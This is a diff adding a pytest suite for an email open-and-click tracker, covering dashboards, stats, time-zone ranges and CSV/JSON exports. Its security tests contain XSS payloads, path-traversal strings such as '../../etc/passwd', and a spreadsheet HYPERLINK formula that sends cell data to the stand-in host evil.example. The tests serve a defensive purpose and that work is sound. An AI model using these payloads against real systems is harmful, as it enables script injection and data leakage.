@@ -1,0 +1,616 @@
+"""What a reader sees over HTTP: pages that obey nobody, numbers, periods of any zone, exports."""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import fcntl
+import functools
+import io
+import itertools
+import os
+import re
+import zoneinfo
+from collections.abc import Iterator
+from datetime import date, datetime, timedelta
+from typing import Any
+
+import pytest
+from asking import (
+    ACME_KEY,
+    Answer,
+    Page,
+    add_one_id,
+    assert_error,
+    assert_private,
+    bearer,
+    database_away,
+    environ_of,
+    get,
+    register,
+)
+from conftest import CHROME, NOW, Stage, click, hit, make_stage, segment
+
+import tracker
+
+DAY = 86_400_000
+
+
+@pytest.fixture(scope="module")
+def still(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
+    """A stage that is asked for what it refuses, and so stays as it is: one for all such questions."""
+    made = make_stage(tmp_path_factory.mktemp("still"))
+    yield made
+    made.app.close()
+
+
+def dashboard(stage: Stage, query: str = "", tenant: tracker.Tenant | None = None) -> Page:
+    answer = get(stage, f"/{(tenant or stage.acme).id}/dashboard{query}")
+    assert answer.status == 200
+    return Page(answer.text)
+
+
+def numbers_of(stage: Stage, query: str = "") -> Any:
+    return get(stage, f"/{stage.acme.id}/stats.json{query}").json
+
+
+def mailing(stage: Stage) -> Stage:
+    """Four emails: one that a person read, one that Apple fetched, one that machines read, one that nobody did."""
+    now = tracker.now_ms()
+    names = ("person", "apple", "machine", "nobody")
+    emails = (tracker.Registration(name, f"Dear {name}", f"{name}@example.org", "spring") for name in names)
+    register(stage, stage.acme, *emails, at=now - 60_000)
+    segment(
+        stage,
+        hit(stage, "person", now - 55_000),
+        hit(stage, "person", now - 40_000),
+        click(stage, "person", at=now - 30_000),
+        click(stage, "person", "https://elsewhere.example/", now - 29_000, answer="named", why="destination-not-allowed"),
+        hit(stage, "apple", now - 50_000, ua="Mozilla/5.0"),
+        hit(stage, "machine", now - 50_000, ua="curl/8.0"),
+        click(stage, "machine", at=now - 40_000, method="HEAD"),
+        hit(stage, "unknown", now - 20_000),
+    )  # fmt: skip
+    stage.drain()
+    assert stage.check() == []
+    return stage
+
+
+# -- Pages
+
+
+def test_a_page_tells_of_mail_that_nobody_registered_and_of_clicks_that_met_the_naming_page(stage: Stage) -> None:
+    page = dashboard(mailing(stage))
+    assert page.title == "Acme: opens and clicks"
+    unregistered, named = page.notices
+    assert "1 email that nobody registered" in unregistered
+    assert "Opened: 1 by people, 0 unconfirmed, 0 by machines" in unregistered
+    assert "in no rate" in unregistered
+    assert named == (
+        "1 click to elsewhere.example met the naming page: this tenant had not allowed that host. "
+        f"`tenant set {stage.acme.mail_id} --domain elsewhere.example` allows it from then on."
+    )
+    stage.change(stage.acme, suspended=True)
+    assert "suspended" in dashboard(stage).notices[0]
+
+
+def test_the_advice_for_a_host_names_its_port_and_is_left_out_where_it_would_be_refused(stage: Stage) -> None:
+    for n, url in enumerate(("https://acme.com:8443/", "http://intranet/")):
+        get(stage, f"/{stage.acme.mail_id}/click/k{n}?url={url}", {"User-Agent": CHROME})
+    text = dashboard(stage).text
+    assert "--domain acme.com:8443`" in text
+    assert "1 click to intranet met the naming page" in text and "--domain intranet" not in text
+
+
+def test_hits_that_could_not_be_drained_in_time_are_said_to_wait(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
+    stage.pixel("e1")
+    lock = os.open(stage.folder / "write.lock", os.O_RDWR | os.O_CREAT)
+    fcntl.flock(lock, fcntl.LOCK_EX)  # somebody writes, and does not come to an end
+    with monkeypatch.context() as patch:
+        patch.setattr(tracker, "drain_for_reading", functools.partial(tracker.drain_for_reading, seconds=0.05))
+        try:
+            page, numbers = dashboard(stage), numbers_of(stage)
+        finally:
+            os.close(lock)
+    assert numbers["waiting_hits"] == 1
+    assert re.match(r"About 1 hits? (is|are) still waiting to be counted", page.notices[0]), page.notices[0]
+    # Without a command, since every page drains first.
+    assert not any("waiting" in notice for notice in dashboard(stage).notices)
+    numbers = numbers_of(stage)
+    assert (numbers["waiting_hits"], numbers["activity"]["opens"]["hits"]["person"]) == (0, 1)
+
+
+def assert_inert(page: Page) -> None:
+    """No script, no style of a page's own, nothing loaded from elsewhere."""
+    for tag, attributes in page.tags:
+        assert tag not in ("script", "style", "iframe", "object", "embed", "base")
+        assert tag != "form" or attributes["method"] == "get"
+        assert tag != "link" or attributes["rel"] in ("icon", "stylesheet")
+        assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcset", "formaction")]
+        assert re.match(r"/(?!/)", attributes.get("action") or "/")
+        assert attributes.get("http-equiv") is None
+    for link in page.links:
+        assert re.match(r"/(?!/)|[?#]|\.\.?/", link), f"{link} leads away"
+
+
+HOSTILE = [
+    "</title></td></table><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "' onmouseover='alert(1)",
+    "$name ${body} $$ $rows",
+    "<!--",
+    "&lt;b&gt; &amp; &#60;script&#62;",
+    "{{7*7}} %s %(name)s",
+    "\u202egnp.exe",  # the bdi around it keeps a right-to-left override from spilling
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_strangers_write_is_shown_and_never_obeyed(stage: Stage, text: str) -> None:
+    stage.change(stage.acme, name=text)
+    register(stage, stage.acme, tracker.Registration("e1", text, text, text))
+    harmless = dashboard(stage, tenant=stage.globex)
+    page = dashboard(stage)
+    assert page.text.count(text) >= 3
+    assert page.title == f"{text}: opens and clicks"
+    # The same tags as an empty page and one row: nothing that was written became a tag or an attribute.
+    assert {tag for tag, _ in page.tags} - {tag for tag, _ in harmless.tags} <= {
+        *("table", "thead", "tbody", "tr", "th", "td", "bdi", "small", "time", "svg", "span"),
+    }
+    assert_inert(page)
+
+
+def test_no_page_holds_a_script_leads_away_or_gives_out_an_id_but_its_own(stage: Stage) -> None:
+    mail_id, id_ = mailing(stage).acme.mail_id, stage.acme.id
+    for path in (f"/{id_}/dashboard", f"/{id_}/campaigns/spring", f"/{id_}/emails/person"):
+        answer = get(stage, path)
+        assert_private(answer)
+        assert_inert(Page(answer.text))
+    public = ["/", "/health", "/nothing", f"/{mail_id}/pixel/e1.gif", f"/{mail_id}/click/e1/x/y", f"/{mail_id}/click/e1",
+              f"/{mail_id}/click/e1?url=ftp://x", f"/{id_}/nothing", f"/{id_}/dashboard?range=x", f"/{id_}/dashboard?tz=x",
+              f"/{id_}/emails", f"/{id_}/stats.json?tz=x"]  # fmt: skip
+    for path in public:
+        answer = get(stage, path)
+        if answer["Content-Type"].startswith("text/html"):
+            assert_private(answer)
+            assert_inert(Page(answer.text))
+        for tenant in (stage.acme, stage.globex):
+            assert tenant.id.encode() not in answer.body
+            assert not any(tenant.id in value for _, value in answer.headers)
+
+
+def test_the_naming_page_names_the_destination_and_has_a_bare_link_to_it(stage: Stage) -> None:
+    # The link must not be one of ours: whoever copies it from here would send others through the tracker.
+    target = "https://elsewhere.example/a?b=%22c%22&d=<e>'#f"
+    answer = get(stage, f"/{stage.acme.mail_id}/click/e1?url={target}")
+    page = Page(answer.text)
+    assert_private(answer)
+    assert page.title == "This link leads to elsewhere.example"
+    (link,) = [attributes for tag, attributes in page.tags if tag == "a"]
+    assert link["href"] == "https://elsewhere.example/a?b=%22c%22&d=%3Ce%3E'#f"
+    assert set((link["rel"] or "").split()) >= {"noreferrer", "nofollow"}
+    assert "script" not in [tag for tag, _ in page.tags]
+
+
+def test_older_emails_lead_on_page_by_page_and_no_email_is_shown_twice(stage: Stage) -> None:
+    # All at one moment, as a mailing is: the time alone does not tell pages apart.
+    register(stage, stage.acme, *(tracker.Registration(f"e{n:03}") for n in range(3 * tracker.EMAIL_ROWS)))
+    seen: list[list[str]] = []
+    path: str | None = f"/{stage.acme.id}/dashboard?range=7d&tz=Europe%2FRome"
+    while path:
+        section = (text := get(stage, path).text)[text.index('<h2 id="emails">') :]
+        seen.append(list(dict.fromkeys(re.findall(r'emails/(e\d{3})"', section))))
+        more = re.search(r'<a href="([^"]*)"[^>]*>More</a>', section)
+        path = more and f"/{stage.acme.id}/dashboard" + more[1].replace("&amp;", "&").partition("#")[0]
+        assert path is None or ("range=7d" in path and "tz=Europe%2FRome" in path)
+        # New mail goes on top and moves no row onto the next page a second time.
+        register(stage, stage.acme, tracker.Registration(f"later{len(seen)}"))
+    assert [len(keys) for keys in seen] == [tracker.EMAIL_ROWS] * 3  # and no fourth page, with nothing on it
+    assert [key for keys in seen for key in keys] == [f"e{n:03}" for n in range(3 * tracker.EMAIL_ROWS - 1, -1, -1)]
+
+
+@pytest.mark.parametrize("name", list(tracker.RANGES))
+def test_every_range_is_shown_in_every_time_zone(stage: Stage, name: str) -> None:
+    mailing(stage)
+    for zone in ("UTC", "Asia/Kolkata", "America/St_Johns"):
+        asked = f"tz={zone.replace('/', '%2F')}"
+        page = dashboard(stage, f"?range={name}&{asked}")
+        current = [
+            attributes for tag, attributes in page.tags if tag == "a" and attributes.get("aria-current") == "page"
+        ]
+        is_default = name == tracker.DEFAULT_RANGE
+        assert [is_default or f"range={name}" in (attributes["href"] or "") for attributes in current] == [True]
+        for link in page.links:
+            if re.match(r"\?(.*&)?range=", link):
+                assert zone == stage.acme.tz or asked in link  # one click away, in the same zone
+        numbers = numbers_of(stage, f"?range={name}&{asked}")
+        assert (numbers["range"]["name"], numbers["range"]["tz"]) == (name, zone)
+        for types, count in (("opens", 5), ("clicks", 3)):
+            assert sum(numbers["activity"][types]["hits"].values()) == count
+            assert sum(sum(step[types].values()) for step in numbers["steps"]) == count
+
+
+X = "x" * 5000
+ZONE, RANGE = "expected a time zone such as Europe/Rome", "expected one of 24h, 7d, 30d, 90d, 12m, all"
+ZONES = f"Mars/Olympus ../../etc/passwd /etc/localtime europe Europe Europe/ Europe/Rome/x é a%00b <script> . .. / zone.tab {X}"
+REFUSED = {  # the pages that know a parameter, what it can't be, what is told
+    "tz": ("dashboard stats.json", f"{ZONES} tzdata.zi %0A UTC%20", ZONE),
+    "range": ("dashboard stats.json", f"1h 30D 30d%20 all,7d -1 <script> %00 {X}", RANGE),
+    "after": ("dashboard emails.json events.csv links.json", f"x 1 1- -1 1-2-3 %00 {'9' * 30}-1", "after: expected"),
+    "limit": (
+        "emails.json events.csv",
+        f"0 -1 100001 1e3 x %00 ² {'9' * 5000} +1",
+        "limit: expected a whole number from 1 to 100000",
+    ),
+}
+
+
+@pytest.mark.parametrize("parameter", REFUSED)
+def test_a_parameter_that_can_not_be_is_refused_with_what_was_expected(still: Stage, parameter: str) -> None:
+    pages, values, told = REFUSED[parameter]
+    for page, value in itertools.product(pages.split(), values.split(" ")):
+        assert told in assert_error(get(still, f"/{still.acme.id}/{page}?{parameter}={value}"), 400), (page, value)
+    assert get(still, f"/{still.acme.id}/emails.json").status == 200  # and the lock is free
+
+
+# -- How periods are cut (pure)
+
+ROME = zoneinfo.ZoneInfo("Europe/Rome")
+
+
+def local_ms(zone: str, *moment: int) -> int:
+    return int(datetime(*moment, tzinfo=zoneinfo.ZoneInfo(zone)).timestamp() * 1000)  # type: ignore[misc,arg-type]
+
+
+@pytest.mark.parametrize(("name", "count"), {"24h": 24, "7d": 7, "30d": 30, "90d": 90, "12m": 53, "all": 1}.items())
+def test_a_range_has_so_many_steps_and_now_is_in_the_last(name: str, count: int) -> None:
+    for zone in ("UTC", "Europe/Rome", "Asia/Kolkata"):
+        period = tracker.read_period(name, zone, NOW, None)
+        assert (len(period.starts), period.zone_name) == (count, zone)
+        assert period.starts == sorted(set(period.starts))
+        assert period.starts[-1] <= NOW < period.end
+
+
+def test_a_day_begins_with_its_first_moment_in_every_time_zone_there_is() -> None:
+    # Some change their clocks at midnight: the day then begins at 01:00, or has two midnights.
+    for name in sorted(zoneinfo.available_timezones() - {"localtime"}):
+        zone = zoneinfo.ZoneInfo(name)
+        for now in (NOW, NOW - 90 * DAY, NOW - 180 * DAY, NOW - 270 * DAY):
+            starts = tracker.read_period("90d", name, now, None).starts
+            today = datetime.fromtimestamp(now / 1000, zone).date()
+            for back, at in enumerate(reversed(starts)):
+                day = today - timedelta(days=back)
+                assert datetime.fromtimestamp(at / 1000, zone).date() == day, name
+                assert datetime.fromtimestamp((at - 1) / 1000, zone).date() < day, name
+                assert at % tracker.QUARTER_MS == 0, name  # so a day is made of whole quarters
+
+
+def test_hours_are_those_of_the_clock_on_the_wall_and_one_that_comes_twice_is_two_steps() -> None:
+    period = tracker.read_period("24h", "Asia/Kolkata", local_ms("Asia/Kolkata", 2026, 11, 24, 14, 20), None)
+    assert period.starts[-1] == local_ms("Asia/Kolkata", 2026, 11, 24, 14)
+    assert period.starts[0] == local_ms("Asia/Kolkata", 2026, 11, 23, 15)
+    # In Rome on 25 October 2026 the hour from 02:00 comes twice.
+    period = tracker.read_period("24h", "Europe/Rome", local_ms("Europe/Rome", 2026, 10, 25, 12, 30), None)
+    assert {end - start for start, end in itertools.pairwise(period.starts)} == {3_600_000}
+    shown = [datetime.fromtimestamp(at / 1000, ROME).strftime("%H:%M") for at in period.starts]
+    assert (shown.count("02:00"), shown[0]) == (2, "14:00")
+
+
+def local_dates(period: tracker.Period) -> list[date]:
+    moments = [datetime.fromtimestamp(at / 1000, period.zone) for at in period.starts]
+    assert all(moment.hour == 0 and moment.minute == 0 for moment in moments)
+    return [moment.date() for moment in moments]
+
+
+def test_twelve_months_are_whole_weeks_from_monday() -> None:
+    dates = local_dates(tracker.read_period("12m", "Europe/Rome", NOW, None))
+    assert {day.weekday() for day in dates} == {0}
+    assert dates[-1] == date(2026, 11, 23)  # NOW is the Tuesday after
+    assert dates[0] == date(2025, 11, 24)  # the week of the same day a year ago
+    assert {(b - a).days for a, b in itertools.pairwise(dates)} == {7}
+
+
+@pytest.mark.parametrize(
+    ("first", "count", "step", "begin"),
+    [
+        (None, 1, "week", date(2026, 11, 23)),
+        (local_ms("UTC", 2026, 11, 22, 23, 59), 2, "week", date(2026, 11, 16)),
+        (local_ms("UTC", 2024, 12, 2), 104, "week", date(2024, 12, 2)),
+        (local_ms("UTC", 2024, 12, 1, 23), 24, "month", date(2024, 12, 1)),
+        (local_ms("UTC", 2000, 1, 31), 323, "month", date(2000, 1, 1)),
+        (NOW + 400 * DAY, 1, "week", date(2026, 11, 23)),  # a clock that was wrong
+    ],
+)
+def test_all_begins_with_the_first_number_in_weeks_and_after_two_years_in_months(
+    first: int | None, count: int, step: str, begin: date
+) -> None:
+    period = tracker.read_period("all", "UTC", NOW, first)
+    dates = local_dates(period)
+    assert (len(dates), period.step, dates[0]) == (count, step, begin)
+    if step == "month":
+        assert {day.day for day in dates} == {1}
+        assert dates[-1] == date(2026, 11, 1)
+
+
+# -- Numbers
+
+
+def test_a_hit_falls_into_its_local_day_to_the_millisecond(stage: Stage) -> None:
+    midnight = local_ms("Asia/Kolkata", 2026, 11, 20)
+    segment(stage, *(hit(stage, "e1", at) for at in (midnight - 1, midnight, midnight + 1)))
+    stage.drain()
+
+    def opens_a_day(zone: str) -> dict[str, int]:
+        with stage.database.reading() as connection:
+            stats = tracker.read_stats(connection, stage.acme.number, tracker.read_period("7d", zone, NOW, None))
+        days = [datetime.fromtimestamp(at / 1000, stats.period.zone).strftime("%d") for at in stats.period.starts]
+        counts = (sum(step[tracker.OPEN].values()) for step in stats.steps)
+        return {day: count for day, count in zip(days, counts, strict=True) if count}
+
+    assert opens_a_day("Asia/Kolkata") == {"19": 1, "20": 2}
+    assert opens_a_day("UTC") == {"19": 3}
+    assert opens_a_day("Europe/Rome") == {"19": 3}
+
+
+def test_an_open_counts_when_it_happens_and_a_rate_by_when_the_mail_was_sent(stage: Stage) -> None:
+    now = tracker.now_ms()
+    register(stage, stage.acme, tracker.Registration("old"), at=now - 10 * DAY)
+    register(stage, stage.acme, tracker.Registration("fresh"), at=now - 1)
+    segment(stage, hit(stage, "old", now - 60_000), hit(stage, "old", now - 9 * DAY))
+    # The email became unique nine days ago, so this week saw a hit of it and no new email.
+    for asked, emails, rate, hits, unique in (("7d", 1, [0, 0], 1, 0), ("30d", 2, [0.5, 0.5], 2, 1)):
+        numbers = numbers_of(stage, f"?range={asked}")
+        assert (numbers["sent"]["emails"], numbers["sent"]["open_rate"]) == (emails, rate)
+        opens = numbers["activity"]["opens"]
+        assert (opens["hits"]["person"], opens["emails"]["person"]) == (hits, unique)
+
+
+def test_stats_json_has_the_numbers_of_the_dashboard(stage: Stage) -> None:
+    numbers = get(mailing(stage), f"/{stage.acme.id}/stats.json?range=24h").json
+    assert len(numbers.pop("steps")) == 24
+    assert numbers.pop("last_hit_at").endswith("Z")
+    period = numbers.pop("range")
+    assert (period["name"], period["tz"]) == ("24h", "UTC")
+    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:00:00\.000Z", period["from"])
+    nothing = {"person": 0, "unconfirmed": 0, "machine": 0}
+    assert numbers == {
+        "tenant": "Acme",
+        "before": {
+            "sent": {"emails": 0, "opened": nothing, "clicked": nothing, "clicked_without_open": 0},
+            "opens": {**nothing, "set_aside": 0},
+            "clicks": {**nothing, "set_aside": 0},
+        },
+        "sent": {
+            "emails": 4,
+            "opened": {"person": 1, "unconfirmed": 1, "machine": 1},
+            "clicked": {"person": 1, "unconfirmed": 0, "machine": 1},
+            "clicked_without_open": 0,
+            "open_rate": [0.25, 0.5],
+            "click_rate": [0.25, 0.25],
+        },
+        "unregistered": {
+            "emails": 1,
+            "opened": {"person": 1, "unconfirmed": 0, "machine": 0},
+            "clicked": {"person": 0, "unconfirmed": 0, "machine": 0},
+            "clicked_without_open": 0,
+        },
+        "activity": {
+            "opens": {
+                "hits": {"person": 3, "unconfirmed": 1, "machine": 1, "set_aside": 0},
+                "emails": {"person": 2, "unconfirmed": 1, "machine": 1},
+            },
+            "clicks": {
+                "hits": {"person": 1, "unconfirmed": 0, "machine": 1, "set_aside": 1},
+                "emails": {"person": 1, "unconfirmed": 0, "machine": 1},
+            },
+        },
+        "reasons": [
+            {"event_type": kind, "verdict": verdict, "reason": reason, "counts_as": state, "hits": number}
+            for kind, verdict, reason, state, number in (
+                ("open", "human", "browser", "person", 3),
+                ("open", "bot", "bot-word", "machine", 1),
+                ("open", "prefetch", "apple-mpp", "unconfirmed", 1),
+                ("click", "human", "browser", "person", 1),
+                ("click", "human", "destination-not-allowed", "set_aside", 1),
+                ("click", "scanner", "head", "machine", 1),
+            )
+        ],
+        "naming_page": [{"host": "elsewhere.example", "reason": "destination-not-allowed", "clicks": 1}],
+        "dropped": {},
+        "waiting_hits": 0,
+    }
+
+
+def test_without_mail_a_rate_is_null_and_not_zero(stage: Stage) -> None:
+    numbers = get(stage, f"/{stage.acme.id}/stats.json").json
+    assert (numbers["sent"]["open_rate"], numbers["last_hit_at"]) == (None, None)
+
+
+def read_csv(answer: Answer) -> list[list[str]]:
+    """The records of a CSV that keeps to RFC 4180: CRLF after each, as many fields in each, quotes where needed."""
+    assert answer.status == 200
+    assert answer["Content-Type"] == "text/csv; charset=utf-8"
+    text = answer.body.decode("utf-8")
+    assert text.endswith("\r\n")
+    records = list(csv.reader(io.StringIO(text, newline=""), strict=True))
+    assert len({len(record) for record in records}) == 1
+    field = r'(?:"(?:[^"]|"")*"|[^",\r\n]*)'
+    assert re.fullmatch(rf"(?:{field}(?:,{field})*\r\n)+", text)
+    return records
+
+
+TABLE_FIELDS = {"emails": tracker.EMAILS.fields, "events": tracker.EVENTS.fields, "links": tracker.LINKS.fields}
+
+
+@pytest.mark.parametrize("table", list(TABLE_FIELDS))
+def test_an_export_has_exactly_the_fields_of_the_contract_in_json_and_csv(stage: Stage, table: str) -> None:
+    nothing = f"/{stage.globex.id}/{table}"
+    assert get(stage, f"{nothing}.json").json == {"rows": [], "next": None}
+    assert read_csv(get(stage, f"{nothing}.csv")) == [[*TABLE_FIELDS[table], "next"]]
+    mailing(stage)
+    answer = get(stage, f"/{stage.acme.id}/{table}.json")
+    assert answer["Content-Disposition"] == f'attachment; filename="{table}.json"'
+    rows = answer.json["rows"]
+    assert list(answer.json) == ["rows", "next"]
+    assert len(rows) == {"emails": 5, "events": 8, "links": 1}[table]
+    assert {tuple(row) for row in rows} == {TABLE_FIELDS[table]}
+    header, *records = read_csv(get(stage, f"/{stage.acme.id}/{table}.csv"))
+    assert header == [*TABLE_FIELDS[table], "next"]
+    # Two forms of the same: what is null in JSON is empty in CSV.
+    assert records == [
+        ["" if value is None else str(value + 0 if isinstance(value, bool) else value) for value in row.values()] + [""]
+        for row in rows
+    ]
+
+
+def test_the_rows_of_an_export_say_what_happened(stage: Stage) -> None:
+    now = tracker.now_ms() // 1000 * 1000
+    register(stage, stage.acme, tracker.Registration("e1", "Hello", "reader@example.org", "spring"), at=now - 5000)
+    segment(
+        stage,
+        hit(stage, "e1", now - 4000, ip="203.0.113.0"),
+        click(stage, "e1", "https://acme.com/a?b=1", now - 3000, method="HEAD", ip=""),
+    )
+    stamp = [tracker.iso_time(now - 1000 * n) for n in range(6)]
+    root = f"/{stage.acme.id}"
+    assert get(stage, f"{root}/emails.json").json["rows"] == [
+        {
+            "key": "e1", "subject": "Hello", "recipient": "reader@example.org", "campaign": "spring",
+            "registered": 1, "created_at": stamp[5], "sent_at": stamp[5],
+            "opens_person": 1, "opens_unconfirmed": 0, "opens_machine": 0, "opened_as": "person", "opened_at": stamp[4],
+            "clicks_person": 0, "clicks_unconfirmed": 0, "clicks_machine": 1, "clicked_as": "machine", "clicked_at": stamp[3],
+        }
+    ]  # fmt: skip
+    assert get(stage, f"{root}/events.json").json["rows"] == [
+        {
+            "key": "e1", "event_type": "click", "timestamp": stamp[3], "method": "HEAD", "verdict": "scanner", "reason": "head",
+            "url": "https://acme.com/a?b=1", "user_agent": CHROME, "ip_address": None,
+        },
+        {
+            "key": "e1", "event_type": "open", "timestamp": stamp[4], "method": "GET", "verdict": "human", "reason": "browser",
+            "url": None, "user_agent": CHROME, "ip_address": "203.0.113.0",
+        },
+    ]  # fmt: skip
+    assert get(stage, f"{root}/links.json").json["rows"] == [
+        {
+            "url": "https://acme.com/a?b=1", "clicks_person": 0, "clicks_unconfirmed": 0, "clicks_machine": 1,
+            "emails_person": 0, "emails_unconfirmed": 0, "emails_machine": 1,
+        }
+    ]  # fmt: skip
+
+
+def many_rows(stage: Stage) -> None:
+    """20 emails, 20 opens of one moment, 20 links."""
+    now = tracker.now_ms()
+    register(stage, stage.acme, *(tracker.Registration(f"e{n}") for n in range(20)), at=now - 1000)
+    segment(stage, *(click(stage, f"e{n}", f"https://acme.com/{n}", now - 500) for n in range(20)))
+    stage.drain()
+
+
+@pytest.mark.parametrize("limit", [1, 7, 10, 19, 20, 21])
+@pytest.mark.parametrize("table", list(TABLE_FIELDS))
+def test_next_leads_through_all_rows_once(stage: Stage, table: str, limit: int) -> None:
+    many_rows(stage)
+    root = f"/{stage.acme.id}/{table}"
+    whole = get(stage, f"{root}.json").json
+    assert len(whole["rows"]) == 20
+    assert whole["next"] is None
+    rows: list[dict[str, Any]] = []
+    records: list[list[str]] = []
+    query = f"?limit={limit}"
+    for _ in range(-(-20 // limit)):
+        answer = get(stage, f"{root}.json{query}").json
+        _, *more = read_csv(get(stage, f"{root}.csv{query}"))
+        assert len(answer["rows"]) == len(more) <= limit
+        assert [record[-1] for record in more[:-1]] == [""] * (len(more) - 1)
+        assert more[-1][-1] == (answer["next"] or "")  # the last record says where to go on
+        rows += answer["rows"]
+        records += more
+        query = f"?limit={limit}&after={answer['next']}"
+    assert answer["next"] is None
+    assert rows == whole["rows"]
+    assert [record[0] for record in records] == [next(iter(row.values())) for row in whole["rows"]]
+
+
+def test_an_export_of_more_rows_than_one_reading_is_whole(stage: Stage) -> None:
+    count = 2 * tracker.CHUNK_ROWS + 1
+    register(stage, stage.acme, *(tracker.Registration(f"e{n}") for n in range(count)))
+    keys = [f"e{n}" for n in range(count - 1, -1, -1)]
+    assert [row["key"] for row in get(stage, f"/{stage.acme.id}/emails.json").json["rows"]] == keys
+    assert [record[0] for record in read_csv(get(stage, f"/{stage.acme.id}/emails.csv"))[1:]] == keys
+    part = get(stage, f"/{stage.acme.id}/emails.json?limit={tracker.CHUNK_ROWS}").json
+    assert len(part["rows"]) == tracker.CHUNK_ROWS
+    assert part["next"] is not None
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_of_a_csv_runs_nothing_in_a_spreadsheet_and_holds_what_was_written(stage: Stage, start: str) -> None:
+    text = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")\r\nthree\nfour'
+    key = f"{start}1" if tracker.is_key(f"{start}1") else "e1"
+    register(stage, stage.acme, tracker.Registration(key, text, text, text))
+    segment(stage, hit(stage, key, ua=text))
+    for table in ("emails", "events"):
+        header, record = read_csv(get(stage, f"/{stage.acme.id}/{table}.csv"))
+        assert sum(text in cell for cell in record) == {"emails": 3, "events": 1}[table]
+        assert not [cell for cell in record if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        assert dict(zip(header, record, strict=True))["key"].removeprefix("'") == key
+    # JSON is for programs: it holds what was written.
+    assert get(stage, f"/{stage.acme.id}/emails.json").json["rows"][0]["subject"] == text
+
+
+@contextlib.contextmanager
+def unread(stage: Stage, target: str) -> Iterator[tuple[Any, io.StringIO]]:
+    """An export whose body is there and not read; closed in the end as a server does."""
+    environ = environ_of("GET", target)
+    body = tracker.wsgi(stage.app)(environ, lambda status, headers, exc_info=None: lambda data: None)
+    try:
+        yield body, environ["wsgi.errors"]
+    finally:
+        body.close()  # type: ignore[attr-defined]
+
+
+def test_one_export_runs_at_a_time(stage: Stage) -> None:
+    many_rows(stage)
+    # It is the server that is busy, not the tenant.
+    both = (stage.acme.id, stage.globex.id)
+    others = [f"/{id_}/{table}.{form}" for id_ in both for table in TABLE_FIELDS for form in ("json", "csv")]
+    with unread(stage, f"/{stage.acme.id}/events.json") as (body, _):
+        for _ in range(2):
+            for path in others:
+                answer = get(stage, path)
+                assert assert_error(answer, 503).startswith("Another export is running")
+                assert int(answer["Retry-After"]) > 0
+            next(iter(body))  # and no sooner free when it is half read
+        assert get(stage, f"/{stage.acme.id}/dashboard").status == 200
+        assert stage.pixel("e1").headers["X-Tracker"] == "recorded"
+    assert get(stage, f"/{stage.acme.id}/events.json").status == 200
+
+
+def test_an_export_that_breaks_off_is_logged_without_the_private_url_and_frees_the_lock(stage: Stage) -> None:
+    register(stage, stage.acme, *(tracker.Registration(f"e{n}") for n in range(2 * tracker.CHUNK_ROWS)))
+    with unread(stage, f"/{stage.acme.id}/emails.json") as (body, errors):
+        chunks = iter(body)
+        next(chunks)
+        # Cut off without an end, the JSON is seen to be incomplete: nobody takes a part for the whole.
+        with database_away(stage), pytest.raises(OSError, match="broke off"):
+            list(chunks)
+    assert "Traceback" in errors.getvalue()
+    assert stage.acme.id not in errors.getvalue()
+    assert get(stage, f"/{stage.acme.id}/emails.json").status == 200
+
+
+def test_with_one_id_exports_leave_out_who_was_written_to(stage: Stage) -> None:
+    one = add_one_id(stage)
+    stage.change(one, api_key_hash=tracker.key_hash(ACME_KEY))
+    register(stage, one, tracker.Registration("e1", "A secret subject", "reader@example.org", "spring"))
+    stage.pixel("e1", one)
+    personal = {"recipient", "subject", "ip_address"}
+    for table in ("emails", "events"):
+        for key, left_out in (("", personal), ("wrong", personal), (ACME_KEY, set())):
+            expected = [name for name in TABLE_FIELDS[table] if name not in left_out]
+            (row,) = get(stage, f"/{one.id}/{table}.json", bearer(key)).json["rows"]
+            assert list(row) == expected
+            (header, _) = read_csv(get(stage, f"/{one.id}/{table}.csv", bearer(key)))
+            assert header == [*expected, "next"]
+    assert b"A secret subject" not in get(stage, f"/{one.id}/dashboard").body
+    assert "A secret subject" in get(stage, f"/{one.id}/dashboard", bearer(ACME_KEY)).text
